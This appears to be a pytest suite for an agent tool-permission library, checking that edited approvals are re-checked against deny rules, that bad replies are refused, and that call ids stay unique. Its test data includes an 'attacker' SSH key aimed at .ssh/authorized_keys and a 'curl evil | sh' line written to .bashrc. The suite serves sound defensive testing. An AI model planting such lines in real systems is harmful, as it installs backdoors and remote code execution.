"""Approvals cannot widen: an approval answers the question it was shown, once, for one call.

Edited arguments are validated and go through the whole gate again (deny rules and safety asks
stand, another question asks again under a new id); a reply is checked completely before the
compare-and-set consumes anything, so a bad one is refused and its call still waits; two
waiting calls never share an id in a session, and the provider adapters answer with the ids
the model gave.
"""

from __future__ import annotations

import math
import re
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import anyio
import pytest

from ferrotool import (
    Confirmation,
    InMemorySessionStore,
    PermissionBehavior,
    PermissionContext,
    PermissionContextState,
    PermissionDecision,
    PermissionRule,
    ResumeError,
    RuntimeContext,
    SessionKey,
    SessionStore,
    ToolBase,
    ToolCallParam,
    ToolContextState,
    Toolkit,
    ToolResultBlock,
    ToolResultState,
    ToolUseBlock,
    update_session,
)
from ferrotool._session.pending import ID_MARK
from ferrotool.builtins.files import WriteTextFile
from ferrotool.builtins.shell import ShellCommandTool
from ferrotool.providers import anthropic, gemini, openai_chat, openai_responses

CONTEXT = RuntimeContext(user_id="ann", session_id="s1")
# redis-py's client (`redis.asyncio`), which `RedisSessionStore` is built on, runs on asyncio only.
REDIS_NEEDS_ASYNCIO = "RedisSessionStore is built on redis.asyncio, which runs on asyncio only"
KEY = SessionKey("ann", "s1")
RENAMED = re.compile(r"^(?P<base>.+)#[0-9a-f]{8}$")


@pytest.fixture(params=["memory", "redis"])
async def store(request: pytest.FixtureRequest, anyio_backend: str) -> AsyncIterator[SessionStore]:
    """Each store kind: in memory, and a real Redis server (``FERROTOOL_REDIS_URL``)."""
    if request.param == "memory":
        yield InMemorySessionStore()
        return
    if anyio_backend != "asyncio":
        pytest.skip(REDIS_NEEDS_ASYNCIO)
    from ferrotool.redis import RedisSessionStore

    url: str = request.getfixturevalue("redis_url")
    prefix: str = request.getfixturevalue("redis_prefix")
    async with RedisSessionStore.from_url(url, prefix=prefix) as redis_store:
        yield redis_store


class Deploy(ToolBase[dict[str, Any]]):
    """Deploys a service: asks first, naming the environment."""

    name = "deploy"
    concurrency_safe = False
    input_schema = {
        "type": "object",
        "properties": {"env": {"type": "string", "enum": ["staging", "prod"]}},
        "required": ["env"],
        "additionalProperties": False,
    }

    def __init__(self) -> None:
        super().__init__()
        self.runs: list[str] = []

    async def check_permissions(
        self, tool_input: dict[str, Any], context: PermissionContext
    ) -> PermissionDecision:
        return PermissionDecision.ask(f"Deploy to {tool_input['env']}?")

    def match_rule(self, rule_content: str | None, tool_input: dict[str, Any]) -> bool:
        return bool(rule_content == tool_input["env"])

    async def call(self, param: ToolCallParam[dict[str, Any]]) -> str:
        self.runs.append(param.input["env"])
        return f"deployed to {param.input['env']}"


def _rule(tool: str, content: str | None, behavior: PermissionBehavior) -> PermissionRule:
    return PermissionRule(tool_name=tool, rule_content=content, behavior=behavior, source="user")


async def _with_rules(store: SessionStore, *rules: PermissionRule) -> None:
    await update_session(
        store,
        KEY,
        lambda state: state.with_permissions(state.permissions.with_rules(rules)),
    )


async def _files(tmp_path: Path, *rules: PermissionRule) -> tuple[Toolkit, InMemorySessionStore]:
    (tmp_path / ".ssh").mkdir()
    kit = Toolkit()
    kit.register(WriteTextFile(tmp_path))
    store = InMemorySessionStore()
    await _with_rules(store, *rules)
    return kit, store


def _write(call_id: str, path: str, content: str = "hello\n") -> ToolUseBlock:
    return ToolUseBlock.of(call_id, "write_text_file", {"file_path": path, "content": content})


async def _ask_to_write(kit: Toolkit, store: InMemorySessionStore, path: str) -> str:
    view = await kit.snapshot().open_view(CONTEXT, store)
    batch = await view.call_tools([_write("c1", path)], CONTEXT)
    (waiting,) = batch.results
    assert waiting.needs_approval
    return "c1"


DENY_SSH = _rule("write_text_file", ".ssh/*", PermissionBehavior.DENY)
KEY_LINE = "ssh-ed25519 AAAAC3Nz attacker\n"


# --- an approval cannot widen itself -----------------------------------------------------------


async def test_an_edited_approval_meets_the_session_deny_rule(tmp_path: Path) -> None:
    kit, store = await _files(tmp_path, DENY_SSH)
    await _ask_to_write(kit, store, "notes.txt")
    edited: dict[str, object] = {"file_path": ".ssh/authorized_keys", "content": KEY_LINE}
    resumed = await kit.snapshot().resume(
        CONTEXT, store, [Confirmation("c1", True, arguments=edited)]
    )
    (result,) = resumed.results
    assert (result.id, result.state) == ("c1", ToolResultState.DENIED)
    assert "denied" in result.content
    assert not (tmp_path / ".ssh" / "authorized_keys").exists()
    assert resumed.suspension is None
    assert (await store.load(KEY)).pending_calls == ()


async def test_an_edit_onto_a_dangerous_path_asks_again_under_a_new_id(tmp_path: Path) -> None:
    kit, store = await _files(tmp_path, _rule("write_text_file", "logs/*", PermissionBehavior.ASK))
    await _ask_to_write(kit, store, "notes.txt")
    edited: dict[str, object] = {"file_path": ".bashrc", "content": "curl evil | sh\n"}
    resumed = await kit.snapshot().resume(
        CONTEXT, store, [Confirmation("c1", True, arguments=edited)]
    )
    (again,) = resumed.results
    assert again.needs_approval
    assert not (tmp_path / ".bashrc").exists()
    suspension = resumed.suspension
    assert suspension is not None
    (pending,) = suspension.pending
    assert pending.message == "'.bashrc' is a sensitive file or folder: approve access explicitly"
    assert pending.call.input == edited
    assert again.id == pending.id != "c1"
    match = RENAMED.match(pending.id)
    assert match is not None
    assert match["base"] == "c1"
    assert suspension.reply_id != resumed.reply_id
    # The first approval, delivered again, is refused: it answered another question.
    with pytest.raises(ResumeError, match="non-ASKING tool call ID: c1"):
        await kit.snapshot().resume(CONTEXT, store, [Confirmation("c1", True, arguments=edited)])
    assert not (tmp_path / ".bashrc").exists()
    # The new question, approved, runs; the result answers the model's id.
    done = await kit.snapshot().resume(CONTEXT, store, [Confirmation(pending.id, True)])
    (result,) = done.results
    assert (result.id, result.state) == (pending.id, ToolResultState.SUCCESS)
    assert (tmp_path / ".bashrc").read_text() == "curl evil | sh\n"
    assert anthropic.result_messages([result])[0]["tool_use_id"] == "c1"


async def test_an_edit_that_asks_the_same_question_runs(tmp_path: Path) -> None:
    kit, store = await _files(tmp_path, DENY_SSH)
    await _ask_to_write(kit, store, "notes.txt")
    edited: dict[str, object] = {"file_path": "todo.txt", "content": "milk\n"}
    resumed = await kit.snapshot().resume(
        CONTEXT, store, [Confirmation("c1", True, arguments=edited)]
    )
    (result,) = resumed.results
    assert (result.id, result.state) == ("c1", ToolResultState.SUCCESS)
    assert (tmp_path / "todo.txt").read_text() == "milk\n"
    assert not (tmp_path / "notes.txt").exists()


async def test_an_edit_that_asks_another_question_asks_again() -> None:
    deploy = Deploy()
    kit = Toolkit()
    kit.register(deploy)
    store = InMemorySessionStore()
    view = await kit.snapshot().open_view(CONTEXT, store)
    await view.call_tools([ToolUseBlock.of("c1", "deploy", {"env": "staging"})], CONTEXT)
    resumed = await kit.snapshot().resume(
        CONTEXT, store, [Confirmation("c1", True, arguments={"env": "prod"})]
    )
    assert deploy.runs == []
    assert resumed.suspension is not None
    (pending,) = resumed.suspension.pending
    assert (pending.message, pending.call.input) == ("Deploy to prod?", {"env": "prod"})
    done = await kit.snapshot().resume(CONTEXT, store, [Confirmation(pending.id, True)])
    assert [r.content for r in done.results] == ["deployed to prod"]
    assert deploy.runs == ["prod"]


async def test_an_edit_hidden_past_the_shown_length_of_a_long_command_asks_again(
    tmp_path: Path,
) -> None:
    shell = ShellCommandTool(cwd=tmp_path, sandbox=False)
    kit = Toolkit()
    kit.register(shell)
    store = InMemorySessionStore()
    view = await kit.snapshot().open_view(CONTEXT, store)
    padding = "X=" + "a" * 250
    asked = await view.call_tools(
        [ToolUseBlock.of("c1", "execute_shell_command", {"command": f"env {padding} date"})],
        CONTEXT,
    )
    assert asked.suspension is not None
    edited: dict[str, object] = {"command": f"env {padding} touch edited"}
    resumed = await kit.snapshot().resume(
        CONTEXT, store, [Confirmation("c1", True, arguments=edited)]
    )
    assert not (tmp_path / "edited").exists()
    assert resumed.suspension is not None
    (pending,) = resumed.suspension.pending
    assert "touch edited" in pending.message


async def test_an_edit_that_a_rule_allows_runs() -> None:
    deploy = Deploy()
    kit = Toolkit()
    kit.register(deploy)
    store = InMemorySessionStore()
    await _with_rules(store, _rule("deploy", "staging", PermissionBehavior.ALLOW))
    view = await kit.snapshot().open_view(CONTEXT, store)
    await view.call_tools([ToolUseBlock.of("c1", "deploy", {"env": "prod"})], CONTEXT)
    resumed = await kit.snapshot().resume(
        CONTEXT, store, [Confirmation("c1", True, arguments={"env": "staging"})]
    )
    assert [(r.id, r.content) for r in resumed.results] == [("c1", "deployed to staging")]
    assert resumed.suspension is None


async def test_an_edit_that_the_approvals_own_rule_allows_runs() -> None:
    deploy = Deploy()
    kit = Toolkit()
    kit.register(deploy)
    store = InMemorySessionStore()
    view = await kit.snapshot().open_view(CONTEXT, store)
    await view.call_tools([ToolUseBlock.of("c1", "deploy", {"env": "prod"})], CONTEXT)
    rule = _rule("deploy", "staging", PermissionBehavior.ALLOW)
    resumed = await kit.snapshot().resume(
        CONTEXT, store, [Confirmation("c1", True, arguments={"env": "staging"}, rules=(rule,))]
    )
    assert [(r.id, r.content) for r in resumed.results] == [("c1", "deployed to staging")]
    assert deploy.runs == ["staging"]


async def test_an_edit_cannot_reach_past_a_deny_rule_with_a_rule_of_its_own(
    tmp_path: Path,
) -> None:
    kit, store = await _files(tmp_path, DENY_SSH)
    await _ask_to_write(kit, store, "notes.txt")
    anything = _rule("write_text_file", None, PermissionBehavior.ALLOW)
    edited: dict[str, object] = {"file_path": ".ssh/authorized_keys", "content": KEY_LINE}
    resumed = await kit.snapshot().resume(
        CONTEXT, store, [Confirmation("c1", True, arguments=edited, rules=(anything,))]
    )
    assert [r.state for r in resumed.results] == [ToolResultState.DENIED]
    assert not (tmp_path / ".ssh" / "authorized_keys").exists()


async def test_an_unedited_approval_meets_a_deny_rule_added_while_it_waited() -> None:
    deploy = Deploy()
    kit = Toolkit()
    kit.register(deploy)
    store = InMemorySessionStore()
    view = await kit.snapshot().open_view(CONTEXT, store)
    await view.call_tools([ToolUseBlock.of("c1", "deploy", {"env": "prod"})], CONTEXT)
    await _with_rules(store, _rule("deploy", "prod", PermissionBehavior.DENY))
    resumed = await kit.snapshot().resume(CONTEXT, store, [Confirmation("c1", True)])
    (result,) = resumed.results
    assert (result.id, result.state) == ("c1", ToolResultState.DENIED)
    assert deploy.runs == []


async def test_arguments_sent_back_unchanged_are_no_edit(tmp_path: Path) -> None:
    kit, store = await _files(tmp_path, _rule("write_text_file", None, PermissionBehavior.ASK))
    await _ask_to_write(kit, store, ".bashrc")  # a safety question, approved as it was asked
    same: dict[str, object] = {"file_path": ".bashrc", "content": "hello\n"}
    resumed = await kit.snapshot().resume(
        CONTEXT, store, [Confirmation("c1", True, arguments=same)]
    )
    assert [r.state for r in resumed.results] == [ToolResultState.SUCCESS]
    assert (tmp_path / ".bashrc").read_text() == "hello\n"


# --- a bad reply is refused before anything is consumed ----------------------------------------

_BAD_ARGUMENTS: list[tuple[object, str]] = [
    ({"env": 2**64}, "JSON"),
    ({"env": {"prod"}}, "JSON"),
    ({"env": math.nan}, "JSON"),
    ({"env": math.inf}, "JSON"),
    ({"env": "\ud800"}, "JSON"),
    ({1: "prod"}, "JSON"),
    (["prod"], "JSON object"),
    ({"env": "moon"}, "env"),
    ({}, "env"),
]


@pytest.mark.parametrize(("arguments", "says"), _BAD_ARGUMENTS)
async def test_bad_edited_arguments_are_refused_and_the_call_still_waits(
    store: SessionStore, arguments: object, says: str
) -> None:
    deploy = Deploy()
    kit = Toolkit()
    kit.register(deploy)
    view = await kit.snapshot().open_view(CONTEXT, store)
    await view.call_tools([ToolUseBlock.of("c1", "deploy", {"env": "prod"})], CONTEXT)
    before = await store.load(KEY)
    bad = Confirmation("c1", True, arguments=arguments)  # type: ignore[arg-type]
    with pytest.raises(ResumeError, match="c1") as refused:
        await kit.snapshot().resume(CONTEXT, store, [bad])
    assert says in str(refused.value)
    after = await store.load(KEY)
    assert (after, after.revision) == (before, before.revision)
    assert deploy.runs == []
    retried = await kit.snapshot().resume(
        CONTEXT, store, [Confirmation("c1", True, arguments={"env": "prod"})]
    )
    assert [r.content for r in retried.results] == ["deployed to prod"]


@pytest.mark.parametrize(
    ("reply", "says"),
    [
        (Confirmation("c1", "no"), "approved"),  # type: ignore[arg-type]
        (Confirmation(7, True), "id"),  # type: ignore[arg-type]
        (Confirmation("c1", True, rules=("deploy",)), "rules"),  # type: ignore[arg-type]
        (Confirmation("c1", True, rules="deploy"), "rules"),  # type: ignore[arg-type]
        (ToolResultBlock.success("x", id=7), "id"),  # type: ignore[arg-type]
    ],
)
async def test_malformed_replies_are_refused_and_consume_nothing(reply: Any, says: str) -> None:
    deploy = Deploy()
    kit = Toolkit()
    kit.register(deploy)
    store = InMemorySessionStore()
    view = await kit.snapshot().open_view(CONTEXT, store)
    await view.call_tools([ToolUseBlock.of("c1", "deploy", {"env": "prod"})], CONTEXT)
    before = await store.load(KEY)
    with pytest.raises(ResumeError, match=says):
        await kit.snapshot().resume(CONTEXT, store, [reply])
    after = await store.load(KEY)
    assert (after, after.revision) == (before, before.revision)
    assert deploy.runs == []


# --- one reply settles one call ----------------------------------------------------------------


def _gemini_turn(env: str, call_id: str | None = None) -> tuple[ToolUseBlock, ...]:
    call: dict[str, object] = {"name": "deploy", "args": {"env": env}}
    if call_id is not None:
        call["id"] = call_id
    return gemini.tool_calls([{"function_call": call}])


def _gemini_response(result: ToolResultBlock) -> dict[str, object]:
    (part,) = gemini.result_messages([result])
    return dict(part.get("function_response") or {})


async def test_a_provider_that_numbers_calls_per_turn_gets_one_call_per_reply(
    store: SessionStore,
) -> None:
    deploy = Deploy()
    kit = Toolkit()
    kit.register(deploy)
    view = await kit.snapshot().open_view(CONTEXT, store)
    first = await view.call_tools(_gemini_turn("prod"), CONTEXT)
    second = await view.call_tools(_gemini_turn("staging"), CONTEXT)
    assert first.suspension is not None
    assert second.suspension is not None
    (one,) = first.suspension.pending
    (two,) = second.suspension.pending
    assert one.id == "gemini-call-0"
    match = RENAMED.match(two.id)
    assert match is not None
    assert match["base"] == "gemini-call-0"
    assert second.results[0].id == two.id  # the placeholder carries the id that waits
    assert [p.id for p in (await store.load(KEY)).pending_calls] == [one.id, two.id]

    settled = await kit.snapshot().resume(CONTEXT, store, [Confirmation("gemini-call-0", True)])
    assert deploy.runs == ["prod"]
    assert [r.content for r in settled.results] == ["deployed to prod"]
    assert [p.id for p in (await store.load(KEY)).pending_calls] == [two.id]

    later = await kit.snapshot().resume(CONTEXT, store, [Confirmation(two.id, True)])
    assert deploy.runs == ["prod", "staging"]
    (result,) = later.results
    assert result.id == two.id
    assert "id" not in _gemini_response(result)  # a generated id is left out again
    assert (await store.load(KEY)).pending_calls == ()


async def test_results_answer_with_the_id_the_model_gave() -> None:
    deploy = Deploy()
    kit = Toolkit()
    kit.register(deploy)
    store = InMemorySessionStore()
    view = await kit.snapshot().open_view(CONTEXT, store)
    await view.call_tools(_gemini_turn("prod", "fc-1"), CONTEXT)
    second = await view.call_tools(_gemini_turn("staging", "fc-1"), CONTEXT)
    assert second.suspension is not None
    (two,) = second.suspension.pending
    assert two.id != "fc-1"
    assert two.model_id == "fc-1"
    assert two.id.startswith("fc-1" + ID_MARK)  # the adapters look for the mark
    for placeholder in second.results:
        assert dict(openai_chat.result_messages([placeholder])[0])["tool_call_id"] == "fc-1"
    later = await kit.snapshot().resume(CONTEXT, store, [Confirmation(two.id, True)])
    (result,) = later.results
    assert _gemini_response(result)["id"] == "fc-1"
    assert dict(openai_chat.result_messages([result])[0])["tool_call_id"] == "fc-1"
    assert dict(openai_responses.result_messages([result])[0])["call_id"] == "fc-1"
    assert anthropic.result_messages([result])[0]["tool_use_id"] == "fc-1"


async def test_repeated_ids_in_one_batch_wait_apart(store: SessionStore) -> None:
    deploy = Deploy()
    kit = Toolkit()
    kit.register(deploy)
    view = await kit.snapshot().open_view(CONTEXT, store)
    calls = [
        ToolUseBlock.of("c1", "deploy", {"env": "prod"}),
        ToolUseBlock.of("c1", "deploy", {"env": "staging"}),
    ]
    batch = await view.call_tools(calls, CONTEXT)
    assert batch.suspension is not None
    ids = [p.id for p in batch.suspension.pending]
    assert ids[0] == "c1"
    assert ids[1] != "c1"
    assert [r.id for r in batch.results] == ids
    settled = await kit.snapshot().resume(CONTEXT, store, [Confirmation("c1", False)])
    assert [r.state for r in settled.results] == [ToolResultState.DENIED]
    assert deploy.runs == []
    assert [p.id for p in (await store.load(KEY)).pending_calls] == [ids[1]]


@pytest.mark.parametrize("bad_id", [1, None, 1.5, b"c1", ("c1",)])
async def test_a_call_whose_id_no_reply_can_name_is_refused_before_anything_runs(
    bad_id: object,
) -> None:
    deploy = Deploy()
    kit = Toolkit()
    kit.register(deploy)
    store = InMemorySessionStore()
    view = await kit.snapshot().open_view(CONTEXT, store)
    bad = ToolUseBlock.of("c1", "deploy", {"env": "prod"})._replace(id=bad_id)  # type: ignore[arg-type]
    calls = [ToolUseBlock.of("c0", "deploy", {"env": "dev"}), bad]
    with pytest.raises(TypeError, match=r"the call to 'deploy' has an id of type \w+"):
        await view.call_tools(calls, CONTEXT)
    with pytest.raises(TypeError, match="has an id of type"):
        async for _ in view.stream_tools(calls, CONTEXT):
            pass
    assert deploy.runs == []
    assert (await store.load(KEY)).pending_calls == ()


async def test_a_renamed_call_survives_the_stored_form(store: SessionStore) -> None:
    deploy = Deploy()
    kit = Toolkit()
    kit.register(deploy)
    view = await kit.snapshot().open_view(CONTEXT, store)
    await view.call_tools(_gemini_turn("prod", "fc-1"), CONTEXT)
    await view.call_tools(_gemini_turn("staging", "fc-1"), CONTEXT)
    state = await store.load(KEY)
    again = ToolContextState.from_json(state.to_json())
    assert again.pending_calls == state.pending_calls
    assert [p.model_id for p in again.pending_calls] == ["", "fc-1"]
    assert PermissionContextState() == again.permissions


async def test_calls_suspended_at_once_with_one_id_wait_apart(store: SessionStore) -> None:
    deploy = Deploy()
    kit = Toolkit()
    kit.register(deploy)
    registry = kit.snapshot()
    views = [await registry.open_view(CONTEXT, store) for _ in range(6)]
    async with anyio.create_task_group() as group:
        for index, view in enumerate(views):
            env = "prod" if index % 2 else "staging"
            group.start_soon(view.call_tools, _gemini_turn(env), CONTEXT)
    waiting = (await store.load(KEY)).pending_calls
    assert len({p.id for p in waiting}) == len(waiting) == 6
    assert {p.answers for p in waiting} == {"gemini-call-0"}
    for pending in waiting:
        await registry.resume(CONTEXT, store, [Confirmation(pending.id, True)])
    assert sorted(deploy.runs) == ["prod"] * 3 + ["staging"] * 3


async def test_an_approval_delivered_twice_that_asks_again_is_accepted_once(
    store: SessionStore,
) -> None:
    deploy = Deploy()
    kit = Toolkit()
    kit.register(deploy)
    registry = kit.snapshot()
    view = await registry.open_view(CONTEXT, store)
    await view.call_tools([ToolUseBlock.of("c1", "deploy", {"env": "staging"})], CONTEXT)
    outcomes: list[str] = []

    async def deliver() -> None:
        edited = Confirmation("c1", True, arguments={"env": "prod"})
        try:
            await registry.resume(CONTEXT, store, [edited])
            outcomes.append("accepted")
        except ResumeError as refused:
            outcomes.append(str(refused))

    async with anyio.create_task_group() as group:
        for _ in range(6):
            group.start_soon(deliver)
    assert outcomes.count("accepted") == 1
    assert deploy.runs == []
    (asked,) = (await store.load(KEY)).pending_calls
    assert asked.id != "c1"
    assert asked.message == "Deploy to prod?"


class Scale(ToolBase[dict[str, Any]]):
    """Takes any value; always asks the same question."""

    name = "scale"
    input_schema = {"type": "object", "properties": {"n": {}}, "required": ["n"]}

    def __init__(self) -> None:
        super().__init__()
        self.runs: list[object] = []

    async def check_permissions(
        self, tool_input: dict[str, Any], context: PermissionContext
    ) -> PermissionDecision:
        return PermissionDecision.ask("Scale?")

    async def call(self, param: ToolCallParam[dict[str, Any]]) -> str:
        self.runs.append(param.input["n"])
        return "scaled"


@pytest.mark.parametrize(("model", "person"), [(1, True), (1, 1.0), (0, False), (1, 1)])
async def test_an_edit_is_told_apart_by_its_json(model: object, person: object) -> None:
    scale = Scale()
    kit = Toolkit()
    kit.register(scale)
    store = InMemorySessionStore()
    view = await kit.snapshot().open_view(CONTEXT, store)
    await view.call_tools([ToolUseBlock.of("c1", "scale", {"n": model})], CONTEXT)  # type: ignore[dict-item]
    await kit.snapshot().resume(CONTEXT, store, [Confirmation("c1", True, arguments={"n": person})])
    (ran,) = scale.runs
    assert (type(ran), ran) == (type(person), person)
